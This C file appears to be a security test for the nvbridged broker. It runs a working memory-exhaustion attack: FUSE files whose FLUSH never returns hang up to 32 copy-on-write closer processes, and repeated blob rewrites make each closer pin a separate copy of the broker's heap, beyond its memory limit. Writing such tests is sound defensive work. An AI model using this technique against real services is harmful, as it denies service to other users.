// SPDX-License-Identifier: MIT
/*
 * Attack: make nvbridged's closers pin many copies of its heap.
 *
 * nvbridged closes the files clients send in closer processes
 * (daemon/closer.c), up to 32, and a FUSE file whose FLUSH never returns
 * holds its closer for as long as the FUSE server likes.  A closer made
 * with clone(CLONE_FILES) alone is a copy-on-write fork: it keeps every
 * page of the broker's heap as it was when it started, outside
 * --max-memory-mb.  So FILL_UIDS uids fill the heap with blobs (1 MiB
 * each, their --max-bytes-per-user), then HANG_UIDS tenants in turn hang
 * one closer each, and between two hangs the fillers replace every blob
 * (UNPUBLISH + PUBLISH, new random bytes): the broker rewrites its heap,
 * and every closer keeps a different generation of it.
 *
 * Memory is the Pss of every distinct address space among the broker and
 * its children (kcmp(KCMP_VM): closers sharing the broker's memory are
 * counted once).  The attack worked when the closers' own (all but the
 * broker's address space) exceeds --max-memory-mb: a copy-on-write closer
 * not written after shares its pages with the broker and splits their Pss
 * with it, so only the copies count.  (Not the broker's own: an ASan
 * build's quarantine grows it with the churn.)
 *
 * Runs as root (mounts FUSE, becomes uids) against the broker named in
 * argv[1].  Exit 0: the attack worked (a hole); 1: it did not; 2: setup
 * failed; 77: no FUSE here (skip).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <linux/kcmp.h>
#include <sys/prctl.h>
#include <sys/random.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include "hostile.h"

#define MEM_MB 16		/* the broker's --max-memory-mb */
#define STR_(x) #x
#define STR(x) STR_(x)
#define FILL_UIDS 12		/* x 1 MiB of blobs: 12 MiB, within MEM_MB */
#define BLOBS 256		/* x 4 KiB: a uid's --max-bytes-per-user */
#define BLOB 4096
#define HANG_UIDS 32		/* closer.c's CLOSERS_MAX, one tenant each */
#define UID_FILL (UID_MANY + 7600)
#define UID_HANG (UID_MANY + 7700)

static int req(int s, uint32_t cmd, uint32_t seq, const void *arg, uint32_t asz,
	       const void *data, uint32_t dlen)
{
	return rsend(s, NVBRIDGE_WIRE_REQUEST, cmd, seq, arg, asz, data, dlen, -1);
}

/* (re)publishes uid's BLOBS blobs, new random bytes each; unpublishes them first if again */
static int fill_round(int s, bool again)
{
	static unsigned char blob[BLOB];
	struct nvbridge_wire_hdr h;
	uint32_t seq = 1;
	int fd;

	for (int i = 0; i < BLOBS; i += 16) {
		int n = 0;

		for (int j = i; j < i + 16; j++) {
			struct nvbridge_publish p = { .size = sizeof(p), .fd = NVBRIDGE_NO_FD,
						      .access = NVBRIDGE_ACCESS_OWNER,
						      .blob_len = BLOB, .blob = 1 };
			struct nvbridge_unpublish u = { .size = sizeof(u) };

			snprintf(p.name, sizeof(p.name), "cm.%d", j);
			snprintf(u.name, sizeof(u.name), "cm.%d", j);
			if (getrandom(blob, sizeof(blob), 0) != sizeof(blob))
				return -1;
			if (again && req(s, NVBRIDGE_IOC_UNPUBLISH, seq++, &u, sizeof(u), NULL, 0))
				return -1;
			if (req(s, NVBRIDGE_IOC_PUBLISH, seq++, &p, sizeof(p), blob, sizeof(blob)))
				return -1;
			n += again ? 2 : 1;
		}
		while (n--)
			if (rrecv(s, &h, NULL, 0, &fd, 10000) || h.result)
				return -1;
	}
	return 0;
}

/* uid u's filler: fills, answers 'k' on done; each byte on cmd: a new round, 'k' or 'n' */
static pid_t filler(uid_t u, int cmd, int done)
{
	pid_t p = fork();

	if (p == 0) {
		int s = -1;
		char c = 'n', x;

		prctl(PR_SET_PDEATHSIG, SIGKILL);
		if (!become(u) && (s = rconnect()) >= 0 && !rhello(s, -1) && !fill_round(s, false))
			c = 'k';
		if (write(done, &c, 1) != 1)
			_exit(1);
		while (c == 'k' && read(cmd, &x, 1) == 1) {
			c = fill_round(s, true) ? 'n' : 'k';
			if (write(done, &c, 1) != 1)
				_exit(1);
		}
		pause();
		_exit(0);
	}
	return p;
}

/* the number after key in /proc/pid/what, or -1 */
static long proc_num(pid_t pid, const char *what, const char *key)
{
	char path[64], line[256];
	size_t kl = strlen(key);
	long v = -1;
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, what);
	f = fopen(path, "re");
	while (f && v < 0 && fgets(line, sizeof(line), f))
		if (!strncmp(line, key, kl))
			v = strtol(line + kl, NULL, 10);
	if (f)
		fclose(f);
	return v;
}

/*
 * KiB of Pss of the broker and its children, each address space once (a
 * kcmp() that fails counts it again); *own: the broker's alone, *kids:
 * children, *spaces: address spaces
 */
static long pinned_kb(pid_t broker, long *own, int *kids, int *spaces)
{
	pid_t seen[64];
	int ns = 0;
	long sum = 0;
	DIR *d = opendir("/proc");
	struct dirent *e;

	*kids = 0;
	if (!d)
		return -1;
	seen[ns++] = broker;
	sum = *own = proc_num(broker, "smaps_rollup", "Pss:");
	while ((e = readdir(d)) && ns < 64) {
		pid_t p = atoi(e->d_name);
		bool dup = false;

		if (p <= 0 || proc_num(p, "status", "PPid:") != broker)
			continue;
		++*kids;
		for (int i = 0; i < ns && !dup; i++)
			dup = syscall(SYS_kcmp, seen[i], p, KCMP_VM, 0, 0) == 0;
		if (!dup) {
			seen[ns++] = p;
			sum += proc_num(p, "smaps_rollup", "Pss:");
		}
	}
	closedir(d);
	*spaces = ns;
	return sum;
}

static pid_t start_broker_small(const char *bin, const char *sock)
{
	pid_t b;

	setenv("NVBRIDGE_SOCKET", sock, 1);
	b = fork();
	if (b == 0) {
		execl(bin, bin, "--socket", sock, "--max-memory-mb", STR(MEM_MB), (char *)NULL);
		_exit(2);
	}
	for (int i = 0; i < 100 && access(sock, F_OK); i++)
		usleep(50000);
	return b;
}

int main(int argc, char **argv)
{
	struct fuse_scene sc;
	pid_t kids[FILL_UIDS + HANG_UIDS], broker;
	int nk = 0, cmd[2], done[2], rdy[2], got = 0, rc = 2, nkids = 0, nspaces = 0, scene;
	long base, full, peak, own;
	char c;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc < 2 || pipe(cmd) || pipe(done) || pipe(rdy))
		return 2;
	scene = fuse_scene_start(&sc);	/* 77: no FUSE here */
	if (scene)
		return scene;
	broker = start_broker_small(argv[1], sc.sock);
	usleep(100000);
	base = pinned_kb(broker, &own, &nkids, &nspaces);
	for (int u = 0; u < FILL_UIDS; u++)
		kids[nk++] = filler(UID_FILL + (uid_t)u, cmd[0], done[1]);
	for (int u = 0; u < FILL_UIDS; u++)
		got += read(done[0], &c, 1) == 1 && c == 'k';
	if (got != FILL_UIDS) {
		printf("  setup failed: %d of %d fillers\n", got, FILL_UIDS);
		goto out;
	}
	full = pinned_kb(broker, &own, &nkids, &nspaces);
	for (int h = 0; h < HANG_UIDS; h++) {
		kids[nk++] = rfile_sender(UID_HANG + (uid_t)h, sc.file, 1, rdy[1]);
		if (rready(rdy[0])) {
			printf("  setup failed: hanger %d\n", h);
			goto out;
		}
		usleep(20000);	/* its closer takes the FLUSH */
		got = 0;
		for (int u = 0; u < FILL_UIDS; u++)
			got += write(cmd[1], "g", 1) == 1;
		for (int u = 0; u < FILL_UIDS; u++)
			got -= read(done[0], &c, 1) == 1 && c == 'k';
		if (got) {
			printf("  setup failed: churn round %d\n", h);
			goto out;
		}
	}
	peak = pinned_kb(broker, &own, &nkids, &nspaces);
	if (nkids < HANG_UIDS) {	/* else nothing was held: the measure says nothing */
		printf("  setup failed: %d closers, not %d, hung\n", nkids, HANG_UIDS);
		goto out;
	}
	printf("  --max-memory-mb %d; broker + closers Pss: %ld MiB bare, %ld MiB with %d MiB of "
	       "blobs, %ld MiB with %d closers hung in FLUSH and the blobs rewritten between hangs "
	       "(%d children, %d address spaces), of which the closers' own %ld MiB (bound %d)\n",
	       MEM_MB, base >> 10, full >> 10, FILL_UIDS, peak >> 10, HANG_UIDS, nkids, nspaces,
	       (peak - own) >> 10, MEM_MB);
	rc = peak - own > (long)MEM_MB << 10 ? 0 : 1;
out:
	fuse_scene_end(&sc);
	for (int i = 0; i < nk; i++)
		kill(kids[i], SIGKILL), waitpid(kids[i], NULL, 0);
	kill(broker, SIGTERM);
	waitpid(broker, NULL, 0);
	return rc;
}
